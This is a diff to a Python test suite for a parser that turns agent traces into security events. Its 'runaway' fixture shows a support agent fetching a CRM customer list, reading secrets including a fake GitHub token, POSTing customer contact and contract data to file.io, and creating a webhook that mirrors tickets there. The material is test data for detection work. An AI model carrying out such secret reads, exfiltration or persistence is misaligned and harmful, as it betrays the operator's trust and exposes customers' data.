@@ -19,23 +19,29 @@ def test_runaway_trace_counts_and_call_tree():
     events, issues = parse_fixture("langfuse", "runaway")
     assert issues == []
     assert by_source(events) == {"agent:prompt": 2, "agent:tool_call": 7}
+    # a target only where the arguments name an object by a path, URL or bucket key
     assert call_rows(events) == [
-        ("json:/observations/2", 1, None, "get_ticket", "read", "ticket/48213"),
-        ("json:/observations/4", 2, None, "get_ticket_context", "read", "ticket/48213"),
-        ("json:/observations/5", 3, 2, "get_customer_list", "read",
-         "crm://customers?tier=enterprise"),
-        ("json:/observations/7", 4, None, "get_secret", "read", "aws/prod-root"),
-        ("json:/observations/8", 5, None, "get_secret", "read", "github/support-bot-deploy"),
-        ("json:/observations/10", 6, None, "http_request", "egress",
-         "https://file.io/?expires=1d"),
-        ("json:/observations/11", 7, None, "create_webhook", "persistence", "ticket-mirror"),
+        ("json:/observations/2", 1, None, "get_ticket", None),
+        ("json:/observations/4", 2, None, "get_ticket_context", None),
+        ("json:/observations/5", 3, 2, "get_customer_list", None),
+        ("json:/observations/7", 4, None, "get_secret", None),
+        ("json:/observations/8", 5, None, "get_secret", None),
+        ("json:/observations/10", 6, None, "http_request", "https://file.io/?expires=1d"),
+        ("json:/observations/11", 7, None, "create_webhook", "https://file.io/hooks/9xk2"),
     ]
+    assert [(e.step, e.attrs["arguments"]) for e in events
+            if e.source == "agent:tool_call" and e.step != 6] == [
+        (1, {"ticket_id": 48213}), (2, {"ticket_id": 48213}),
+        (3, {"resource": "crm://customers?tier=enterprise", "limit": 500}),
+        (4, {"name": "aws/prod-root"}), (5, {"name": "github/support-bot-deploy"}),
+        (7, {"name": "ticket-mirror", "url": "https://file.io/hooks/9xk2",
+             "events": ["ticket.created", "ticket.updated"]})]
     prompts = [(e.ref.locator, e.actor_id, e.actor_kind, e.attrs["role"]) for e in events
                if e.source == "agent:prompt"]
     assert prompts == [("json:/input", "agent-desk-7", "human", "user"),
                        ("json:/observations/1/input/0", "support-triage", "service-principal",
                         "system")]
-    denied = next(e for e in events if e.target_id == "aws/prod-root")
+    denied = next(e for e in events if e.attrs.get("arguments") == {"name": "aws/prod-root"})
     assert (denied.outcome, denied.attrs["result_text"]) == (
         "failure", "AccessDenied: support-bot may not read aws/prod-root")
     check_golden("agent_shapes/langfuse_runaway.json", projection(events, issues))
@@ -43,16 +49,16 @@ def test_runaway_trace_counts_and_call_tree():
 
 def test_token_read_event_whole():
     events, _ = parse_fixture("langfuse", "runaway")
-    call = next(e for e in events if e.target_id == "github/support-bot-deploy")
+    call = next(e for e in events if e.ref.locator == "json:/observations/8")
     assert fields(call) == {
         "locator": "json:/observations/8", "source": "agent:tool_call",
-        "time": "2026-04-02T01:20:14Z", "action": "get_secret", "action_class": "read",
+        "time": "2026-04-02T01:20:14Z", "action": "get_secret", "action_class": "other",
         "actor_id": "support-triage", "actor_kind": "agent",
-        "target_id": "github/support-bot-deploy", "target_type": "resource",
+        "target_id": None, "target_type": None,
         "target_label": None, "outcome": "success", "session": "helpdesk-48213", "step": 5,
         "parent_step": None, "approver": None, "bytes_in": None, "bytes_out": None,
         "attrs": {"arguments": {"name": "github/support-bot-deploy"}, "is_error": False,
-                  "model": "claude-3-7-sonnet-20250219", "mutation": "read",
+                  "model": "claude-3-7-sonnet-20250219",
                   "observation_id": "8d14c0cc2f7fbd52",
                   "result_text": '{"name": "github/support-bot-deploy", "value": '
                                  '"ghp_FAKE7t2QpL9xZr4MvN8bC1dK6wJ3hY5sA0eG"}',
@@ -65,7 +71,12 @@ def test_decorator_capture_of_args_and_kwargs_is_unwrapped():
     events, _ = parse_fixture("langfuse", "runaway")
     upload = next(e for e in events if e.action == "http_request")
     assert upload.attrs["arguments"]["url"] == "https://file.io/?expires=1d"
-    assert (upload.bytes_out, upload.attrs["dest_host"]) == (109, "file.io")
+    assert upload.attrs["arguments"] == {
+        "method": "POST", "url": "https://file.io/?expires=1d",
+        "body": "email,phone,contract_value\ncfo@northbeam.example,+1-555-0142,480000\n"
+                "it@lumen-labs.example,+1-555-0177,265000\n"}
+    # the trace records no byte count: none is made up from the body
+    assert (upload.bytes_out, upload.attrs["dest_host"]) == (None, "file.io")
 
 
 def test_benign_api_page():
